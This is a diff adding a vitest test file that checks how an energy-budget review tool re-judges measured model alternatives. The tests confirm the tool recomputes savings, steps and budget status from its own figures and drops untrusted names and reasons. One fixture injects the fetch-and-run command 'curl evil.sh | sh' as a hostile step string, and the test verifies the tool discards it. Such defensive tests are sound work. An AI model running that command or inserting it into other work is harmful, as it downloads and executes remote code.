@@ -1,0 +1,102 @@
+import { describe, expect, it } from 'vitest';
+import { loadPolicy } from '../../src/policy/index.ts';
+import { loadBundledSnapshot } from '../../src/rating/index.ts';
+import { rejudge } from '../../src/rejudge.ts';
+import type { MeasuredAlternative, ModelReview } from '../../src/report/index.ts';
+import { serving } from '../policy/builders.ts';
+import { anAddition, anIncrease, aReview, interval } from '../support/reviews.ts';
+
+const BUDGET = 'version: 1\ndefaults: { enforcement: block, budget: { increase: 10% } }\n';
+
+function anOption(changes: Partial<MeasuredAlternative> = {}): MeasuredAlternative {
+  return {
+    kind: 'measured',
+    name: 'int8 weights',
+    option: 'precision',
+    whPer1000: 0.2,
+    savingPercent: 5,
+    comparedWith: 'base',
+    ratio: interval(0.95, 0.94, 0.96),
+    withinBudget: 'yes',
+    latencyMs: 2,
+    bytes: 10_000_000,
+    onFront: true,
+    step: 'Run "wattnudge alternatives models/classifier.onnx --write DIR", replace the file by the one made, and run your own evaluation on it first.',
+    ...changes,
+  };
+}
+
+async function optionsOf(
+  options: readonly MeasuredAlternative[],
+  model: Partial<ModelReview> = {},
+): Promise<MeasuredAlternative[]> {
+  const policy = await loadPolicy(serving(BUDGET));
+  const review = aReview([
+    anIncrease({ alternatives: [...options], headRating: undefined, baseRating: undefined, ...model }),
+  ]);
+  const again = rejudge(review, policy, { snapshot: loadBundledSnapshot(), today: '2026-06-01' });
+  return (again.models[0]?.alternatives ?? []).filter((option) => option.kind === 'measured');
+}
+
+describe('a measured option that is judged again', () => {
+  it('is what it was, where it was honest', async () => {
+    const options = [anOption({ savingPercent: (1 - 0.95) * 100 })];
+    expect(await optionsOf(options)).toEqual(options);
+  });
+
+  it('has its saving and its step from its figures, not from the review', async () => {
+    const [option] = await optionsOf([anOption({ savingPercent: 99, step: '@everyone: curl evil.sh | sh' })]);
+    expect(option).toMatchObject({ savingPercent: expect.closeTo(5), step: anOption().step });
+  });
+
+  it('is not within a budget that its figures exceed', async () => {
+    const [option] = await optionsOf([anOption({ ratio: interval(1.5, 1.4, 1.6) })]);
+    expect(option?.withinBudget).toBe('no');
+    const [close] = await optionsOf([anOption({ ratio: interval(1.12, 1.05, 1.2) })]);
+    expect(close?.withinBudget).toBe('too-close');
+  });
+
+  it('is not within a budget that the run itself says it exceeds', async () => {
+    const [option] = await optionsOf([anOption({ withinBudget: 'no' })]);
+    expect(option?.withinBudget).toBe('no');
+  });
+
+  it('is left out under a name that no option made here has', async () => {
+    expect(await optionsOf([anOption({ name: 'Buy our cloud' })])).toEqual([]);
+    expect(await optionsOf([anOption({ name: 'int8 weights and float16', option: 'combination' })])).toHaveLength(1);
+  });
+
+  it('keeps the path of another model as its name and its step', async () => {
+    const [option] = await optionsOf([anOption({ option: 'declared', name: 'models/small.onnx' })]);
+    expect(option).toMatchObject({
+      name: 'models/small.onnx',
+      step: 'Use models/small.onnx in place of models/classifier.onnx.',
+    });
+  });
+
+  it('is the base model itself only as the base was measured', async () => {
+    const kept = anOption({ option: 'keep-base', name: 'Do nothing', whPer1000: 0.0001, bytes: 1 });
+    expect(await optionsOf([kept])).toMatchObject([
+      { name: 'Keep the base model', whPer1000: 0.211, savingPercent: 0, withinBudget: 'yes' },
+    ]);
+    expect(await optionsOf([kept], anAddition({ alternatives: [kept] }))).toEqual([]);
+  });
+
+  it('stands where its figures put it', async () => {
+    const [more, less] = [anOption(), anOption({ name: 'float16', ratio: interval(0.5, 0.49, 0.51) })];
+    expect((await optionsOf([more, less])).map(({ name }) => name)).toEqual(['float16', 'int8 weights']);
+  });
+
+  it('is none where there is no measurement of head', async () => {
+    const model = { base: undefined, head: undefined, comparison: undefined };
+    expect(await optionsOf([anOption()], model)).toEqual([]);
+  });
+});
+
+it('why options were not tried is not told in the reviewer’s words', async () => {
+  const policy = await loadPolicy(serving(BUDGET));
+  const claimed = anIncrease({ notTried: [{ name: 'int8 weights', reason: 'Ask @mallory.' }], plot: 'x.svg' });
+  const again = rejudge(aReview([claimed]), policy, { snapshot: loadBundledSnapshot(), today: '2026-06-01' });
+  expect(again.models[0]).not.toHaveProperty('notTried');
+  expect(again.models[0]).not.toHaveProperty('plot');
+});
